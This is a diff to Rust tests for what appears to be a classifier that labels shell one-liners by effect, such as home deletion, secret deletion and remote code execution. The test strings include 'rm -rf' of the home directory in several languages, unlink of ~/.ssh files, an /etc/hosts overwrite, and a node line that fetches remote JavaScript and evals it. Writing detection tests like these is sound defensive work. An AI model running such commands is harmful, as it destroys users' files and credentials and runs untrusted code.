@@ -258,8 +258,13 @@ fn perl_ruby_php() {
         assert!(has(line, "delete@home"), "{line}: {:?}", effects(line));
     }
     assert!(has("perl -e 'unlink \".env\"'", "delete@secrets"));
+    // `glob` of a literal pattern is that pattern, expanded as the shell's are.
+    assert!(has("perl -e 'unlink glob(\"~/.ssh/*\")'", "delete@secrets"));
     // A call's value as the bare argument is computed: opaque, at the places it names.
-    assert!(has("perl -e 'unlink glob(\"~/.ssh/*\")'", "opaque@secrets"));
+    assert!(has(
+        "perl -e 'unlink readdir(\"~/.ssh\")'",
+        "opaque@secrets"
+    ));
     assert!(has(
         "perl -e 'open(my $f, \">\", \"/etc/hosts\")'",
         "overwrite@system"
@@ -352,4 +357,61 @@ fn awk_lua_r_osascript() {
         effects("osascript -e 'display notification \"done\"'"),
         none()
     );
+}
+
+#[test]
+fn list_form_commands_name_the_home_in_each_language() {
+    // An argv list (no shell between) still runs the program it names; the home directory
+    // spelled as the language spells it is the home.
+    for line in [
+        "perl -e 'system \"rm\", \"-rf\", $ENV{HOME}'",
+        "perl -e 'system(\"rm\", \"-rf\", $ENV{\"HOME\"})'",
+        "perl -e 'system(\"rm\", \"-rf\", \"$ENV{HOME}\")'",
+        "perl -e 'exec \"rm\", \"-rf\", glob(\"~\")'",
+        "ruby -e 'system(\"rm\", \"-rf\", Dir.home)'",
+        "python3 -c 'import subprocess; subprocess.run([\"rm\",\"-rf\",\"/home/u\"])'",
+        "node -e 'require(\"child_process\").spawnSync(\"rm\", [\"-rf\", require(\"os\").homedir()])'",
+        "node -e 'require(\"child_process\").execFileSync(\"rm\",[\"-rf\",process.env.HOME])'",
+    ] {
+        assert!(has(line, "delete@home"), "{line}: {:?}", effects(line));
+    }
+    // The home named inside a longer string is a path under it, not the home.
+    let under = "perl -e 'system(\"rm\", \"-rf\", \"$ENV{HOME}/proj/src\")'";
+    assert!(has(under, "delete@source"), "{:?}", effects(under));
+    // A variable other than the home is not known.
+    assert!(!has(
+        "perl -e 'system(\"rm\", \"-rf\", \"$dir\")'",
+        "delete@home"
+    ));
+    let listing = effects("perl -e 'system \"ls\", \"-la\", $ENV{HOME}'");
+    assert!(
+        listing.iter().all(|e| !e.starts_with("delete")),
+        "{listing:?}"
+    );
+}
+
+#[test]
+fn node_http_modules_under_any_name_fetch() {
+    let line = "node -e \"require('https').get('https://x.example/a.js', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })\"";
+    assert!(has(line, "remote_exec@none"), "{:?}", effects(line));
+    let line = "node -e \"const h = require('node:https'); h.request('https://x.example').end()\"";
+    assert!(has(line, "fetch@remote"), "{:?}", effects(line));
+    // A `get` on something else is not a fetch.
+    let line = "node -e \"const m = new Map(); console.log(m.get('a'))\"";
+    assert!(!has(line, "fetch@remote"), "{:?}", effects(line));
+}
+
+#[test]
+fn js_shell_tagged_templates_run_their_line() {
+    // Single-quoted for the shell: the backticks reach the JS.
+    for line in [
+        "bun -e 'await Bun.$`rm -rf ~`'",
+        "node -e 'const { $ } = require(\"zx\"); await $`rm -rf ~`'",
+        "bun -e \"await Bun.$\\`rm -rf ~\\`\"",
+    ] {
+        assert!(has(line, "delete@home"), "{line}: {:?}", effects(line));
+    }
+    assert!(has("bun -e 'await Bun.$`rm -rf ${dir}`'", "opaque@none"));
+    let jq = effects("node -e '$(\"div\").hide()'");
+    assert!(jq.iter().all(|e| !e.starts_with("delete")), "{jq:?}");
 }
